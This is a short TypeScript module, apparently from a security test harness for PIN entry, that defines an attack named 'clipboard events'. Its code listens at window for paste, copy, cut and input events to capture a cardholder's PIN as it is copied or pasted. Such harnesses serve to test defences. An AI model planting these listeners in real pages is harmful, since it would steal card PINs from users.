import type { Attack } from '../attack.js';

export const clipboardEvents: Attack = {
  title: 'clipboard events',
  does: 'Listens at `window` for `paste`, `copy` and `cut` while the cardholder copies the revealed PIN and pastes a PIN from a note.',
  shares: 'reads',
  entry: 'paste',
  install: ({ capture }) => {
    for (const type of ['paste', 'copy', 'cut', 'beforeinput', 'input'])
      addEventListener(
        type,
        (event) => {
          const { clipboardData, data } = event as ClipboardEvent & InputEvent;
          capture(type, clipboardData?.getData('text/plain') ?? data);
        },
        true,
      );
  },
};
